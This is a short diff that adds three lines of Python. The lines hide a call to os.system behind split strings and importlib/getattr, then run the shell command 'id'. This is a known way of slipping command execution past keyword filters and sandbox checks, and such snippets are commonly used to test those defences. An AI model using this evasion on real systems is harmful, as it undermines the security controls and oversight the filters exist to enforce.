@@ -1,0 +1,3 @@
+import importlib
+m = importlib.import_module('o' + 's')
+getattr(m, 'sys' + 'tem')('id')
